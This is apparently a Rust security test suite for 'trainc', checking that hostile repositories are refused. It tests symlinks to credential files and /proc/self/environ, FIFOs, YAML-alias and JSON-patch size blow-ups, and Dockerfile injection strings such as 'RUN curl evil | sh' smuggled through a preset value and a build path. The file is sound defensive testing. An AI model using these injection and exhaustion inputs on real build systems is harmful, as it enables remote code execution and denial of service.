//! Repositories written by an attacker: what trainc reads (regular files
//! inside the project root only), how much a definition can make it do, and
//! what reaches a Dockerfile. Every refusal is exit code 2, names the path,
//! shows no content of a file it refused, and writes nothing.

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{read_tree, run, scratch_example, stderr, trainc};

const SECRET: &str = "AWS_SECRET_ACCESS_KEY=hunter2-do-not-print";

/// A definition without build inputs, with `extra` added under `spec`.
fn definition(name: &str, extra: &str) -> String {
    format!(
        "apiVersion: trainc.dev/v1alpha1\nkind: TrainingJob\nmetadata: {{name: {name}, namespace: ml}}\nspec:\n  image: registry.example.com/ml/a:1.0\n{extra}  roles:\n    ps: {{replicas: 1}}\n    worker: {{replicas: 2}}\n"
    )
}

/// A project with one valid definition in `jobs/`.
fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::create_dir(dir.path().join("jobs")).expect("mkdir");
    fs::write(dir.path().join("jobs/a.yaml"), definition("a", "")).expect("write");
    dir
}

/// A file outside every project, holding a secret.
fn secret() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("credentials");
    fs::write(&file, format!("{SECRET}\n")).expect("write");
    (dir, file)
}

/// Runs trainc with a deadline: a FIFO opened for reading blocks until a
/// writer comes, so a hang is a failure here, not a stuck test.
fn run_within(cwd: &Path, args: &[&str], limit: Duration) -> Output {
    let mut child = trainc()
        .current_dir(cwd)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let start = Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("trainc {args:?} still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().expect("output")
}

fn mkfifo(path: &Path) {
    let st = Command::new("mkfifo").arg(path).status().expect("mkfifo");
    assert!(st.success());
}

/// Exit code 2, every `wanted` in stderr, no secret, nothing written.
fn refused(dir: &Path, o: &Output, wanted: &[&str]) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    for w in wanted {
        assert!(err.contains(w), "missing {w:?} in:\n{err}");
    }
    assert!(
        !err.contains("hunter2"),
        "a secret reached the output:\n{err}"
    );
    assert!(!String::from_utf8_lossy(&o.stdout).contains("hunter2"));
    assert!(!dir.join("deploy").exists(), "something was written");
}

// Item 9: what is read.

#[test]
fn a_definition_linked_outside_the_root_is_refused_unread() {
    let dir = project();
    let (_s, file) = secret();
    symlink(&file, dir.path().join("jobs/leak.yaml")).expect("symlink");
    for cmd in [
        &["validate"][..],
        &["build"],
        &["diff"],
        &["validate", "jobs/leak.yaml"],
    ] {
        let o = run(dir.path(), cmd);
        refused(
            dir.path(),
            &o,
            &[&format!(
                "error: jobs/leak.yaml resolves to {}, outside the project root",
                file.canonicalize().expect("canonical").display()
            )],
        );
    }
}

#[test]
fn a_definition_linked_to_the_environment_is_refused_unread() {
    let dir = project();
    symlink("/proc/self/environ", dir.path().join("jobs/env.yaml")).expect("symlink");
    let o = trainc()
        .current_dir(dir.path())
        .arg("validate")
        .env("TRAINC_TEST_TOKEN", "hunter2")
        .output()
        .expect("runs");
    refused(dir.path(), &o, &["jobs/env.yaml resolves to /proc/"]);
}

#[test]
fn a_directory_linked_outside_the_root_is_not_walked() {
    let dir = project();
    let outside = tempfile::tempdir().expect("tempdir");
    fs::write(outside.path().join("x.yaml"), format!("{SECRET}\n")).expect("write");
    symlink(outside.path(), dir.path().join("jobs/shared")).expect("symlink");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &["jobs/shared resolves to", "outside the project root"],
    );
    assert!(!stderr(&o).contains("x.yaml"), "{}", stderr(&o));
}

#[test]
fn links_inside_the_root_are_still_followed() {
    let dir = project();
    for (sub, job) in [("shared", "b"), ("more", "c")] {
        fs::create_dir(dir.path().join(sub)).expect("mkdir");
        fs::write(
            dir.path().join(format!("{sub}/{job}.yaml")),
            definition(job, ""),
        )
        .expect("write");
    }
    symlink("../shared/b.yaml", dir.path().join("jobs/b.yaml")).expect("symlink");
    symlink("../more", dir.path().join("jobs/more")).expect("symlink");
    let o = run(dir.path(), &["validate"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(common::stdout(&o), "3 jobs valid\n");
}

#[test]
fn sources_outside_the_root_are_refused() {
    let dir = project();
    let (_s, file) = secret();
    let outside = file.parent().expect("parent");
    fs::write(outside.join("d.yaml"), format!("{SECRET}\n")).expect("write");
    fs::write(
        dir.path().join("trainc.yaml"),
        format!(
            "apiVersion: trainc.dev/v1alpha1\nkind: Project\nsources: [jobs, {}]\n",
            outside.display()
        ),
    )
    .expect("write");
    let o = run(dir.path(), &["build"]);
    refused(dir.path(), &o, &["lies outside the project root"]);
    // A path typed on the command line is the user's own choice: read.
    fs::write(outside.join("typed.yaml"), definition("typed", "")).expect("write");
    let typed = outside.join("typed.yaml");
    let o = run(dir.path(), &["validate", &typed.display().to_string()]);
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    // But one typed inside the root that a link of the repository leads
    // out of is the repository's doing.
    std::os::unix::fs::symlink(&file, dir.path().join("jobs/typed-link.yaml")).expect("link");
    let o = run(dir.path(), &["validate", "jobs/typed-link.yaml"]);
    refused(dir.path(), &o, &["resolves to", "outside the project root"]);
}

#[test]
fn a_fifo_among_the_definitions_is_refused_without_blocking() {
    let dir = project();
    mkfifo(&dir.path().join("jobs/pipe.yaml"));
    let limit = Duration::from_secs(30);
    for cmd in [
        &["validate"][..],
        &["build"],
        &["validate", "jobs/pipe.yaml"],
    ] {
        let o = run_within(dir.path(), cmd, limit);
        refused(
            dir.path(),
            &o,
            &["error: jobs/pipe.yaml is a named pipe (FIFO), not a regular file"],
        );
    }
    // The build cache reads the definitions too, before anything else.
    fs::remove_file(dir.path().join("jobs/pipe.yaml")).expect("rm");
    assert!(run(dir.path(), &["build"]).status.success());
    mkfifo(&dir.path().join("jobs/pipe.yaml"));
    let o = run_within(dir.path(), &["build"], limit);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("jobs/pipe.yaml is a named pipe"));
}

#[test]
fn a_fifo_as_the_build_contexts_dockerignore_is_refused_without_blocking() {
    let dir = scratch_example("mnist");
    fs::remove_file(dir.path().join("train/.dockerignore")).expect("rm");
    mkfifo(&dir.path().join("train/.dockerignore"));
    let o = run_within(dir.path(), &["build"], Duration::from_secs(30));
    refused(
        dir.path(),
        &o,
        &[
            "error: cannot prepare the image of ml/mnist: .dockerignore is a named pipe (FIFO), not a regular file",
        ],
    );
}

#[test]
fn sockets_and_directories_named_like_definitions_are_refused() {
    let dir = project();
    let _listener =
        std::os::unix::net::UnixListener::bind(dir.path().join("jobs/s.yaml")).expect("socket");
    fs::create_dir(dir.path().join("jobs/d.yml")).expect("mkdir");
    fs::write(dir.path().join("jobs/d.yml/e.yaml"), definition("e", "")).expect("write");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: jobs/d.yml is a directory, not a regular file",
            "error: jobs/s.yaml is a socket, not a regular file",
            "aborting due to 2 previous errors",
        ],
    );
}

#[test]
fn a_project_file_linked_outside_or_not_a_file_is_refused() {
    let dir = project();
    let (_s, file) = secret();
    symlink(&file, dir.path().join("trainc.yaml")).expect("symlink");
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: project file trainc.yaml resolves to",
            "outside the project root",
        ],
    );
    fs::remove_file(dir.path().join("trainc.yaml")).expect("rm");
    mkfifo(&dir.path().join("trainc.yaml"));
    let o = run_within(dir.path(), &["build"], Duration::from_secs(30));
    refused(
        dir.path(),
        &o,
        &["error: trainc.yaml is a named pipe (FIFO), not a regular file"],
    );
}

#[test]
fn library_files_linked_outside_or_not_files_are_refused() {
    let dir = project();
    let (_s, file) = secret();
    fs::write(
        dir.path().join("trainc.yaml"),
        "apiVersion: trainc.dev/v1alpha1\nkind: Project\nlibrary: lib\n",
    )
    .expect("write");
    fs::create_dir_all(dir.path().join("lib/presets")).expect("mkdir");
    fs::create_dir_all(dir.path().join("lib/templates")).expect("mkdir");
    symlink(&file, dir.path().join("lib/presets/tensorflow.yaml")).expect("symlink");
    mkfifo(&dir.path().join("lib/templates/Dockerfile.j2"));
    let o = run_within(dir.path(), &["build"], Duration::from_secs(30));
    refused(
        dir.path(),
        &o,
        &[
            "error: library file lib/presets/tensorflow.yaml resolves to",
            "error: lib/templates/Dockerfile.j2 is a named pipe (FIFO), not a regular file",
        ],
    );
    // The library directory itself, and a subdirectory, linked out.
    fs::remove_dir_all(dir.path().join("lib")).expect("rm");
    symlink(file.parent().expect("parent"), dir.path().join("lib")).expect("symlink");
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &["error: library directory lib resolves to"],
    );
    fs::remove_file(dir.path().join("lib")).expect("rm");
    fs::create_dir(dir.path().join("lib")).expect("mkdir");
    symlink(
        file.parent().expect("parent"),
        dir.path().join("lib/presets"),
    )
    .expect("symlink");
    fs::write(file.parent().expect("parent").join("x.yaml"), SECRET).expect("write");
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &["error: library file lib/presets/x.yaml resolves to"],
    );
}

// Item 10: how much a definition can make trainc do.

#[test]
fn one_string_is_at_most_64_kib() {
    let dir = project();
    let long = "x".repeat(70_000);
    fs::write(
        dir.path().join("jobs/a.yaml"),
        definition("a", &format!("  args: [--a, {long}]\n")),
    )
    .expect("write");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: spec.args[1]: a string of 70000 bytes, over the 65536-byte limit for one string\n --> jobs/a.yaml:6:15",
            "help: definitions hold settings, not data",
        ],
    );
    // Keys too, and the message does not repeat the key.
    fs::write(
        dir.path().join("jobs/a.yaml"),
        // An explicit key: YAML limits implicit ones to 1,024 characters.
        definition("a", &format!("  env:\n    ? {long}\n    : x\n")),
    )
    .expect("write");
    let o = run(dir.path(), &["validate"]);
    refused(dir.path(), &o, &["error: spec.env: a key of 70000 bytes"]);
    assert!(stderr(&o).lines().next().is_some_and(|l| l.len() < 200));
    // Just under the limit is fine.
    let fits = "x".repeat(65_536);
    fs::write(
        dir.path().join("jobs/a.yaml"),
        definition("a", &format!("  args: [{fits}]\n")),
    )
    .expect("write");
    let o = run(dir.path(), &["validate"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn tasks_times_settings_are_bounded_before_compiling() {
    // The report's case: long arguments times 1,000 workers. Through
    // aliases the file itself stays small.
    let dir = project();
    let arg = "y".repeat(60_000);
    let text = definition("a", &format!("  args: [&a {arg}, *a, *a, *a, *a]\n"))
        .replace("worker: {replicas: 2}", "worker: {replicas: 1000}");
    fs::write(dir.path().join("jobs/a.yaml"), text).expect("write");
    let start = Instant::now();
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: spec.roles.worker.replicas: 1001 tasks with up to 294 KiB of settings each make at least 286.5 MiB of manifests, over the 256.0 MiB limit for a build's output",
            "--> jobs/a.yaml:9:24",
        ],
    );
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
    // Jobs that fit one by one, but not together.
    let arg = "z".repeat(30_000);
    fs::remove_file(dir.path().join("jobs/a.yaml")).expect("rm");
    for i in 0..5 {
        let text = definition(&format!("j{i}"), &format!("  args: [&a {arg}, *a]\n"))
            .replace("worker: {replicas: 2}", "worker: {replicas: 999}");
        fs::write(dir.path().join(format!("jobs/j{i}.yaml")), text).expect("write");
    }
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: the 5 jobs make at least",
            "over the 256.0 MiB limit for a build's output",
        ],
    );
}

/// A definition whose patches are the JSON operations `ops`, one a line,
/// and the line of the first.
fn with_json_patches(name: &str, extra: &str, patches: &[Vec<String>]) -> (String, usize) {
    let mut text = definition(name, extra);
    text.push_str("  patches:\n");
    let first = text.lines().count() + 2;
    for ops in patches {
        text.push_str("    - json:\n");
        for op in ops {
            text.push_str(&format!("        - {op}\n"));
        }
    }
    (text, first)
}

/// The `[j]` of the first error at `spec.patches[0].json[j]`, after which
/// `stderr` must give the line of that operation.
fn refused_at_operation(err: &str, first_line: usize) -> usize {
    let j: usize = err
        .split_once("error: spec.patches[0].json[")
        .and_then(|(_, rest)| rest.split_once(']'))
        .and_then(|(j, _)| j.parse().ok())
        .unwrap_or_else(|| panic!("no operation named in:\n{err}"));
    let at = format!("--> jobs/a.yaml:{}:", first_line + j);
    assert!(err.contains(&at), "missing {at:?} in:\n{err}");
    j
}

// Patches that copy: what they write into a pod template is bounded as they
// apply, and counts in the budget.

#[test]
fn copies_in_patches_are_refused_at_the_operation_that_passes_the_bound() {
    let dir = project();
    let script = "s".repeat(1000);
    // A list that doubles with each operation: 2^40 containers.
    let mut ops = vec![
        "{op: add, path: /spec/initContainers, value: []}".to_owned(),
        "{op: copy, from: /spec/containers/0, path: /spec/initContainers/-}".to_owned(),
    ];
    ops.extend((0..40).map(|_| {
        "{op: copy, from: /spec/initContainers, path: /spec/initContainers/-}".to_owned()
    }));
    let (text, first) = with_json_patches("a", &format!("  command: [sh, -c, {script}]\n"), &[ops]);
    fs::write(dir.path().join("jobs/a.yaml"), text).expect("write");
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &[
            "this `copy` would take what the patches write into one pod template past 1.0 MiB (roles `ps`, `worker`)",
        ],
    );
    // About 2 KB, copied once and then doubled nine times: the tenth
    // doubling would pass 1 MiB.
    assert_eq!(refused_at_operation(&stderr(&o), first), 11);

    // The report's case: a container with a long command copied into the
    // init containers 9,999 times, an 831 KB definition that took 2.5
    // minutes and 3.6 GB of memory to refuse.
    let script = "s".repeat(60_000);
    let copy = "{op: copy, from: /spec/containers/0, path: /spec/initContainers/-}".to_owned();
    let mut patches = vec![vec![copy.clone(); 100]; 100];
    patches[0][0] = "{op: add, path: /spec/initContainers, value: []}".to_owned();
    let (text, first) =
        with_json_patches("a", &format!("  command: [sh, -c, {script}]\n"), &patches);
    fs::write(dir.path().join("jobs/a.yaml"), text).expect("write");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &["this `copy` would take what the patches write"],
    );
    // About 61 KB a copy: 17 fit in 1 MiB, the 18th is refused.
    assert_eq!(refused_at_operation(&stderr(&o), first), 18);
}

#[test]
fn what_patches_add_to_each_pod_counts_in_the_budget() {
    // 1,001 tasks of 60 KB each fit; five copies of the container in each
    // pod (300 KB, within what patches may write) do not.
    let dir = project();
    let script = "s".repeat(60_000);
    let mut ops = vec!["{op: add, path: /spec/initContainers, value: []}".to_owned()];
    for i in 0..5 {
        ops.push("{op: copy, from: /spec/containers/0, path: /spec/initContainers/-}".to_owned());
        ops.push(format!(
            "{{op: replace, path: /spec/initContainers/{i}/name, value: copy-{i}}}"
        ));
    }
    let (text, _) = with_json_patches("a", &format!("  command: [sh, -c, {script}]\n"), &[ops]);
    let text = text.replace("worker: {replicas: 2}", "worker: {replicas: 1000}");
    fs::write(dir.path().join("jobs/a.yaml"), &text).expect("write");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: spec.roles.worker.replicas: 1001 tasks with up to",
            "KiB of settings each, with what the patches add to each pod, make at least",
            "over the 256.0 MiB limit for a build's output",
            "help: every task's manifest repeats the job's settings and what its patches write into its pod",
        ],
    );
    // Without the patches the job fits.
    let cut = text.find("  patches:\n").expect("patches");
    fs::write(dir.path().join("jobs/a.yaml"), &text[..cut]).expect("write");
    let o = run(dir.path(), &["validate"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn patch_paths_stop_at_values_without_fields() {
    // Copies into paths below a string, each twice as deep as the last,
    // nested the template 32,768 levels deep: a stack overflow on a thread.
    let dir = project();
    fs::remove_file(dir.path().join("jobs/a.yaml")).expect("rm");
    for name in ["a", "b"] {
        let mut ops = vec!["{op: add, path: /metadata/annotations, value: {a: {}}}".to_owned()];
        ops.extend((0..15).map(|k| {
            format!(
                "{{op: copy, from: /metadata/annotations/a, path: /metadata/annotations{}/a}}",
                "/a".repeat(1 << k)
            )
        }));
        let (text, _) = with_json_patches(name, "", &[ops]);
        fs::write(dir.path().join(format!("jobs/{name}.yaml")), text).expect("write");
    }
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: spec.patches[0].json[1].path: `/metadata/annotations/a/a`: the pod template has nothing below `/metadata/annotations/a`",
            "help: a path ends at a field of the pod template, an item of a list or a key of a map",
        ],
    );
}

#[test]
fn rendering_stops_at_the_output_limit() {
    let dir = scratch_example("mnist");
    let project = trainc::project::Project::discover(dir.path(), None).expect("project");
    let (mut jobs, _) = trainc::pipeline::check(&project, dir.path(), &[]).expect("valid");
    trainc::pipeline::images(&project, &mut jobs, &project.build_output).expect("images");
    assert!(trainc::pipeline::render_within(&jobs, 10 * 1024 * 1024).is_ok());
    let e = trainc::pipeline::render_within(&jobs, 1024).expect_err("over the limit");
    assert!(
        e[0].message
            .starts_with("the build's output would be more than"),
        "{}",
        e[0].message
    );
    assert!(
        e[0].message.ends_with("nothing was written"),
        "{}",
        e[0].message
    );
}

#[test]
fn run_local_applies_the_replicas_limit() {
    let dir = scratch_example("mnist");
    let o = run(
        dir.path(),
        &[
            "run",
            "--local",
            "jobs/mnist.yaml",
            "--replicas",
            "worker=40000",
            "--python",
            "/bin/false",
        ],
    );
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).starts_with(
            "error: --replicas worker=40000: a role has at most 1000 replicas\n |\n = help: the same limit as `replicas` in a definition"
        ),
        "{}",
        stderr(&o)
    );
    assert!(!common::stdout(&o).contains("running"));
}

// Item 11: what reaches a Dockerfile.

/// The mnist example with its definition's `build` block changed by `edit`.
fn build_variant(edit: impl Fn(String) -> String) -> tempfile::TempDir {
    let dir = scratch_example("mnist");
    let path = dir.path().join("jobs/mnist.yaml");
    let text = fs::read_to_string(&path).expect("read");
    fs::write(&path, edit(text)).expect("write");
    dir
}

#[test]
fn a_base_image_that_would_continue_the_from_line_is_refused() {
    let dir = build_variant(|t| {
        t.replace(
            "    repository: registry.example.com/ml/mnist\n",
            "    repository: registry.example.com/ml/mnist\n    baseImage: 'ubuntu\\'\n",
        )
    });
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: spec.build.baseImage: `ubuntu\\` is not an image reference: `\\` cannot appear in one\n  --> jobs/mnist.yaml:20:16",
            "help: write an image reference `[registry[:port]/]path[:tag][@digest]`",
        ],
    );
    assert!(!dir.path().join("build").exists());
}

#[test]
fn a_pinned_base_image_is_written_as_given() {
    let pinned = "docker.io/library/ubuntu:24.04@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let dir = build_variant(|t| {
        t.replace(
            "    repository: registry.example.com/ml/mnist\n",
            &format!("    repository: registry.example.com/ml/mnist\n    baseImage: {pinned}\n"),
        )
    });
    let o = run(dir.path(), &["build"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let dockerfile =
        fs::read_to_string(dir.path().join("build/ml/mnist/Dockerfile")).expect("read");
    assert!(
        dockerfile.contains(&format!("\nFROM {pinned}\n")),
        "{dockerfile}"
    );
}

#[test]
fn preset_values_written_into_the_dockerfile_are_checked() {
    let preset = include_str!("../library/presets/tensorflow.yaml");
    for (from, to, wanted) in [
        (
            "python: python\n",
            "python: \"python\\\"]\\nRUN curl evil | sh #\"\n",
            "error: python: `python\"]\\nRUN curl evil | sh #` cannot be written into a Dockerfile: `\"` cannot appear in it\n  --> lib/presets/tensorflow.yaml:13:9",
        ),
        (
            "workdir: /app\n",
            "workdir: 'app dir'\n",
            "error: workdir: `app dir` cannot be written into a Dockerfile: a space cannot appear in it",
        ),
        (
            "workdir: /app\n",
            "workdir: app\n",
            "error: workdir: `app` is not an absolute path",
        ),
        (
            "gpu: \"tensorflow/tensorflow:2.21.0-gpu\"",
            "gpu: \"tensorflow/tensorflow:2.21.0-gpu\\\\\"",
            "error: versions.2.21.gpu: `tensorflow/tensorflow:2.21.0-gpu\\` is not an image reference",
        ),
    ] {
        let dir = scratch_example("mnist");
        let project = dir.path().join("trainc.yaml");
        let text = fs::read_to_string(&project).expect("read");
        fs::write(&project, format!("{text}library: lib\n")).expect("write");
        fs::create_dir_all(dir.path().join("lib/presets")).expect("mkdir");
        assert!(preset.contains(from), "{from}");
        fs::write(
            dir.path().join("lib/presets/tensorflow.yaml"),
            preset.replace(from, to),
        )
        .expect("write");
        let o = run(dir.path(), &["validate"]);
        refused(dir.path(), &o, &[wanted]);
    }
}

#[test]
fn a_build_directory_with_a_line_break_is_refused() {
    let dir = scratch_example("mnist");
    let o = run(
        dir.path(),
        &[
            "build",
            "-o",
            "out",
            "--build-output",
            "b\nRUN curl evil | sh",
        ],
    );
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(
            "error: refusing to use `b\\nRUN curl evil | sh` as the build directory: its path holds `\\n`"
        ),
        "{}",
        stderr(&o)
    );
    assert!(read_tree(&dir.path().join("out")).is_empty());
}

// Item 13: small gaps.

#[test]
fn a_directory_of_projects_is_refused_once_per_project_file() {
    // A copy of the examples without what local builds leave in them.
    let root = tempfile::tempdir().expect("tempdir");
    for example in ["mnist", "mnist-cpu"] {
        let scratch = scratch_example(example);
        common::copy_tree(scratch.path(), &root.path().join("examples").join(example));
    }
    let o = run(root.path(), &["build", "examples", "-o", "never-written"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    for f in [
        "examples/mnist-cpu/trainc.yaml",
        "examples/mnist/trainc.collective.yaml",
        "examples/mnist/trainc.jobset.yaml",
        "examples/mnist/trainc.yaml",
    ] {
        assert!(
            err.contains(&format!("error: {f} is a project file, not a definition")),
            "{err}"
        );
        assert!(
            err.contains(&format!("pass `--project {f}` and no paths")),
            "{err}"
        );
    }
    assert!(err.contains("aborting due to 4 previous errors"), "{err}");
    assert!(!root.path().join("never-written").exists());
}

#[test]
fn files_without_jobs_are_named() {
    let dir = project();
    fs::write(dir.path().join("jobs/a.yaml"), "").expect("write");
    fs::write(dir.path().join("jobs/b.yaml"), "# nothing yet\n").expect("write");
    let o = run(dir.path(), &["build"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: no training jobs found: the definition files jobs/a.yaml and jobs/b.yaml hold no documents",
        ],
    );
    for i in 0..6 {
        fs::write(dir.path().join(format!("jobs/c{i}.yaml")), "").expect("write");
    }
    let o = run(dir.path(), &["validate"]);
    refused(
        dir.path(),
        &o,
        &[
            "error: no training jobs found: the 8 definition files (jobs/a.yaml, jobs/b.yaml, jobs/c0.yaml, and 5 more) hold no documents",
        ],
    );
}
